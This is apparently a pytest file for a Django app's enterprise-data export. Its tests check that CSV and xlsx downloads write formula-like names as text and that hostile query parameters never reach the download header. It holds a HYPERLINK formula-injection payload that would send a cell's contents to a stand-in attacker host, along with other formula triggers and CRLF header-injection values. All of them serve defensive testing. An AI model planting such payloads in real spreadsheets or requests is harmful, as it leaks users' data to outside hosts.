"""Downloads write what users typed as text, never as a formula Excel would run.

The probe renamed an enterprise to a HYPERLINK formula that would send the
neighbouring cell to another site when the finance clerk opens the list. Every
download is checked here with such names: xlsx cells are string cells (read back
with openpyxl), csv cells that Excel would take for a formula start with a quote
(OWASP CSV injection guidance); and the download's parameters are checked before
they reach a query or a header.
"""
import csv
import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from enterprises import exports, services, spreadsheets
from enterprises.models import Enterprise

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"财政清单")'
HOSTILE = [HYPERLINK, "+1+2", "-1+2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "#N/A", "=1"]


@pytest.fixture
def hostile(yuxian_clerk, enterprises):
    """盂县's enterprise renamed (as any write path might store it) and with a figure."""
    target = enterprises["yu_gxj"]
    Enterprise.objects.filter(pk=target.pk).update(name=HYPERLINK, legal_representative="@SUM(A1:A9)",
                                                   address="-1+2")
    services.monthly_figure_upsert(user=yuxian_clerk, enterprise=target, year=2024, month=5,
                                   values={"tax": Decimal("-30000"), "employees": 3})
    target.refresh_from_db()
    return target


def every_cell(book):
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(content):
    book = openpyxl.load_workbook(io.BytesIO(content))  # not read-only: data_type as saved
    cells = every_cell(book)
    assert cells
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == []
    return book


@pytest.mark.parametrize("kind, columns", [("enterprises", (1, 6, 7)), ("figures", (1,))])
def test_the_xlsx_export_writes_a_hostile_name_as_text(client, yuxian_clerk, hostile, kind, columns):
    client.force_login(yuxian_clerk)

    response = client.get(reverse("enterprises:export"), {"kind": kind, "format": "xlsx", "year": 2024})

    assert response.status_code == 200
    book = assert_no_formula(response.content)
    row = next(r for r in book.worksheets[0].iter_rows(min_row=2) if r[0].value == hostile.credit_code)
    written = {index: row[index] for index in columns}
    assert written[1].value == HYPERLINK and written[1].data_type == "s"
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in written.values())
    if kind == "enterprises":
        assert (row[6].value, row[7].value) == ("@SUM(A1:A9)", "-1+2")
    else:
        assert row[6].value == -3 and row[6].data_type == "n"  # a negative amount stays a number


@pytest.mark.parametrize("kind", ["enterprises", "figures"])
def test_the_csv_export_quotes_a_hostile_name(client, yuxian_clerk, hostile, kind):
    client.force_login(yuxian_clerk)

    response = client.get(reverse("enterprises:export"), {"kind": kind, "format": "csv", "year": 2024})

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    row = next(r for r in rows[1:] if r[0] == hostile.credit_code)
    assert row[1] == "'" + HYPERLINK
    if kind == "enterprises":
        assert (row[6], row[7]) == ("'@SUM(A1:A9)", "'-1+2")
    else:
        assert row[6] == "-3"  # a negative number is not text and is written as it is


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_a_hostile_export_reimported_gives_back_the_same_text(client, yuxian_clerk, hostile, fmt):
    client.force_login(yuxian_clerk)
    exported = client.get(reverse("enterprises:export"), {"kind": "enterprises", "format": fmt})

    dataset = spreadsheets.read_dataset(SimpleUploadedFile(f"e.{fmt}", exported.content))
    report = spreadsheets.preview_enterprises(user=yuxian_clerk, dataset=dataset)

    assert {(r.label, r.action) for r in report.rows} >= {(f"{hostile.credit_code} {HYPERLINK}", "unchanged")}
    assert report.counts["invalid"] == report.counts["updated"] == 0


def test_a_control_character_stored_in_a_name_does_not_break_the_export(client, yuxian_clerk, enterprises):
    Enterprise.objects.filter(pk=enterprises["yu_gxj"].pk).update(name="盂县\x01耐火\x1b材料")
    client.force_login(yuxian_clerk)

    for fmt in ("xlsx", "csv"):
        response = client.get(reverse("enterprises:export"), {"kind": "enterprises", "format": fmt})
        assert response.status_code == 200
        dataset = spreadsheets.read_dataset(SimpleUploadedFile(f"e.{fmt}", response.content))
        assert "盂县耐火材料" in [r[1] for r in dataset]


@pytest.mark.parametrize("kind", ["enterprises", "figures"])
def test_the_templates_hold_only_text_and_no_formula(client, yuxian_clerk, kind):
    client.force_login(yuxian_clerk)

    response = client.get(reverse("enterprises:template"), {"kind": kind})

    book = assert_no_formula(response.content)
    assert all(c.data_type == "s" for c in every_cell(book) if c.value is not None)


@pytest.mark.parametrize("year", ["²", "１２", "٢٠٢٤", "9" * 40, "9" * 5000, "1e400", "\x00", "2024\r\n", "-1", "1999"])
def test_an_export_year_that_is_not_a_plausible_year_is_a_400(client, yuxian_clerk, enterprises, year):
    client.force_login(yuxian_clerk)

    response = client.get(reverse("enterprises:export"), {"kind": "figures", "format": "csv", "year": year})

    assert response.status_code == 400 and "Content-Disposition" not in response
    assert "年份应为2000至2100之间的数字" in response.content.decode()


@pytest.mark.parametrize("params", [{"kind": "figures\r\nX: y"}, {"format": 'xlsx";x="y'}, {"kind": "\x00"},
                                    {"q": "\x00", "jurisdiction": "\x00", "pool": "\r\n"}])
def test_hostile_export_parameters_never_reach_the_header(client, yuxian_clerk, enterprises, params):
    client.force_login(yuxian_clerk)

    response = client.get(reverse("enterprises:export"), params)

    assert response.status_code in (200, 400)
    disposition = response.get("Content-Disposition", "")
    assert "\r" not in disposition and "\n" not in disposition and 'x="y' not in disposition


def test_the_download_header_names_the_file_from_known_values_only(client, yuxian_clerk, hostile):
    client.force_login(yuxian_clerk)

    response = client.get(reverse("enterprises:export"), {"kind": "figures", "format": "csv", "year": "2024"})

    stamp = timezone.localdate().strftime("%Y%m%d")
    assert response["Content-Disposition"] == exports.content_disposition(f"月度数据-{stamp}.csv")
    assert response["Content-Disposition"].startswith("attachment; filename*=utf-8''")


# --- the shared neutraliser itself ------------------------------------------------------------

@pytest.mark.parametrize("text, written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("盂县", "盂县"), ("1-2", "1-2"), ("", ""), ("'=1", "'=1"),
])
def test_csv_cells_that_excel_would_evaluate_start_with_a_quote(text, written):
    assert exports.csv_cell(text) == written


def test_csv_cells_of_numbers_dates_and_nothing():
    assert [exports.csv_cell(v) for v in (None, Decimal("-3000.50"), -3, date(2024, 5, 1))] == [
        "", "-3000.5", "-3", "2024-05-01"]


def test_xlsx_rows_keep_text_as_text_and_numbers_as_numbers():
    book = openpyxl.Workbook()
    exports.append_row(book.active, [HYPERLINK, "#N/A", "坏\x00字\x1f符", Decimal("-1.5"), 7, date(2024, 5, 1), None])
    stream = io.BytesIO()
    book.save(stream)

    row = next(openpyxl.load_workbook(io.BytesIO(stream.getvalue())).active.iter_rows())

    assert [c.data_type for c in row[:6]] == ["s", "s", "s", "n", "n", "d"]
    assert [c.value for c in row[:3]] == [HYPERLINK, "#N/A", "坏字符"]
    assert row[0].quotePrefix and not row[2].quotePrefix

